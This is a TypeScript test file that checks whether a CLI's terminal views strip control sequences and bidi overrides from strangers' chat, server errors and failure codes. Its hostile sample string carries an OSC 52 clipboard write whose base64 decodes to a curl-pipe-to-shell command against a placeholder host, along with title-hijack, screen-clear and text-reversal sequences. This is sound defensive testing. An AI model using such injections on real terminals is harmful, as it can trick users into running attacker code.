// Item 15 of the security issue: a stranger's chat, a server's error message or a network's
// reason phrase reaches a terminal view. Each human view must print none of the control
// sequences or bidi overrides it carries (OSC 52 writes the clipboard, OSC 0 the window title,
// CSI 2J clears the screen, U+202E reverses text), only the words.
import { render } from 'ink-testing-library';
import { describe, expect, it } from 'vitest';
import { ConnectView } from '../../src/cli/connect-view.js';
import { initialModel, reduce, type ConnectEvent } from '../../src/cli/connect-model.js';
import { ProbeView } from '../../src/cli/probe-view.js';
import { reportText } from '../../src/cli/probe-text.js';
import { BotsView } from '../../src/cli/bots-view.js';
import { summaryText } from '../../src/cli/bots-text.js';
import { noFailures, percentiles, type BotsProgress, type BotsSummary } from '../../src/bots/index.js';
import type { ProbeProgress } from '../../src/probe/probe.js';
import type { ProbeReport } from '../../src/probe/report.js';

const ESC = '\u001b';
/** A hostile string: clipboard write, window title, clear screen, full reset, 8-bit CSI, bidi override. */
const EVIL = `A${ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u0007B${ESC}]0;pwned title\u0007C${ESC}[2J${ESC}[HD${ESC}cE\u009b2JF\u202egnp.exe`;
/** What is left of it. */
const WORDS = 'ABCDEFgnp.exe';

/** Fails naming the first thing a terminal would act on. */
function expectInert(frame: string): void {
  expect(frame).not.toContain(`${ESC}]`); // OSC (52, 0, 8 ...)
  expect(frame).not.toContain(`${ESC}[2J`);
  expect(frame).not.toContain(`${ESC}c`);
  expect(frame).not.toMatch(/[\u0007\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(frame).not.toContain('pwned title');
  expect(frame).not.toContain('Y3VybCBodHRw');
}

describe('terminal views show outside text without its control sequences', () => {
  it('connect: a partner\'s chat, common interests and a server error', () => {
    const events: ConnectEvent[] = [
      { type: 'matched', data: { matchId: 'm1', role: 'offerer', hub: 'tamil', private: false, commonInterests: [`x${ESC}]0;t\u0007y`], partner: 1 } },
      { type: 'chat', data: { matchId: 'm1', text: EVIL } },
      { type: 'chat', data: { matchId: 'm1', text: 'line one\nYou: I agree to send money' } },
      { type: 'server-error', data: { code: 'CHZ_ERR_X', message: `server says ${ESC}]52;c;Y3VybCBodHRw\u0007hi`, ref: null } as never },
    ];
    const model = events.reduce((m, e) => reduce(m, e), initialModel('hub tamil'));
    const { lastFrame, unmount } = render(<ConnectView model={model} input="" composing={false} />);
    const f = lastFrame()!;
    unmount();
    expectInert(f);
    expect(f).toContain(`Stranger: ${WORDS}`);
    // A newline cannot start a line that looks like one of ours.
    expect(f).toContain('Stranger: line one You: I agree to send money');
    expect(f).not.toMatch(/^\W*You: I agree/m);
    expect(f).toContain('server says hi [CHZ_ERR_X]');
  });

  it('probe: an error message from the server and advice quoting it, in the ink view and as text', () => {
    const progress: ProbeProgress = {
      checks: { signal: 'done', interfaces: 'skipped', stun: 'skipped', nat: 'skipped', turn: 'skipped', ice: 'skipped' },
      signal: { url: 'ws://203.0.113.1:8080/ws', ok: false, connectMs: null, welcomeMs: null, rttMs: null, turnAnnounced: false, iceServerUrls: [], error: { code: 'CHZ_ERR_SERVER_REJECTED', message: EVIL } },
      interfaces: null, stun: [], nat: null, turn: [], ice: [],
    } as unknown as ProbeProgress;
    const report = {
      version: 1, startedAt: '2026-01-01T00:00:00.000Z', durationMs: 10, checkMs: {}, server: 'http://203.0.113.1:8080',
      verdict: { level: 'poor', code: 'no-signal', summary: `verdict ${EVIL}` }, advice: [`advice ${EVIL}`],
    } as unknown as ProbeReport;
    const { lastFrame, unmount } = render(<ProbeView progress={progress} report={report} frame={0} />);
    const f = lastFrame()!;
    unmount();
    expectInert(f);
    expect(f).toContain(`ws://203.0.113.1:8080/ws: ${WORDS}`);
    expect(f).toContain(`verdict ${WORDS}`);
    expect(f).toContain(`advice ${WORDS}`);
    const text = reportText(report, progress);
    expectInert(text);
    expect(text).toContain(`Verdict: verdict ${WORDS}`);
  });

  it('bots: server error codes, failure messages, warnings and the summary table', () => {
    const p: BotsProgress = {
      mode: 'signal', bots: 2, started: 2, elapsedMs: 1000, durationMs: 0, rampMs: 0,
      states: { pending: 0, signaling: 0, ready: 0, queued: 2, matched: 0, connected: 0, streaming: 0, failed: 0, ended: 0 },
      matchedBots: 0, connectedBots: 0, matches: 0, succeeded: 0, failed: noFailures(), failedTotal: 0,
      rolling: { match: null, connect: null, media: null },
      serverErrors: { [`CODE${ESC}]0;t\u0007`]: 1 }, errors: [`match: ${EVIL}`], warnings: [`warn ${EVIL}`],
      cpuPercent: 1, rssMb: 1, serverGone: { server: `http://x${ESC}[2J`, code: 1006 }, stopping: null,
    };
    const { lastFrame, unmount } = render(<BotsView progress={p} servers={['http://localhost:1']} />);
    const f = lastFrame()!;
    unmount();
    expectInert(f);
    expect(f).toContain(`match: ${WORDS}`);
    expect(f).toContain('CODE ×1');
    const s = {
      mode: 'signal', source: 'clip', servers: ['http://localhost:1'], bots: 2, started: 2, notStarted: 0, matched: 0, connected: 0, matches: 0,
      attempts: { succeeded: 0, failed: 1, unfinished: 0 }, failRate: 1, failed: noFailures(), failureCodes: { [`CHZ${ESC}]52;c;Y3VybCBodHRw\u0007`]: 1 },
      timeToSignalMs: percentiles([3]), timeToMatchMs: null, timeToIceMs: null, timeToDtlsMs: null, timeToConnectMs: null, timeToFirstMediaMs: null,
      recvBitrateKbps: null, recvVideoKbps: null, lossPercent: null, signals: { sent: 0, received: 0 }, serverErrors: { [`E\u202eX`]: 1 },
      serverGone: { server: `http://x${ESC}c`, code: 1006 }, cpu: { userMs: 1, systemMs: 1, childrenMs: 0, percentOfCore: 1, steadyPercentOfCore: null, steadySeconds: 0, perBotPercent: 0 },
      memory: { rssMb: 1, peakRssMb: 1, perBotKb: 1 }, clip: null, workers: 1, durationMs: 1000, endReason: 'settled', warnings: [`warn ${EVIL}`],
      thresholds: [], passed: false,
    } as unknown as BotsSummary;
    const t = summaryText(s);
    expectInert(t);
    expect(t).toContain(`warning: warn ${WORDS}`);
    expect(t).toContain('failures: CHZ ×1');
    expect(t).toContain('server errors: EX ×1');
  });
});
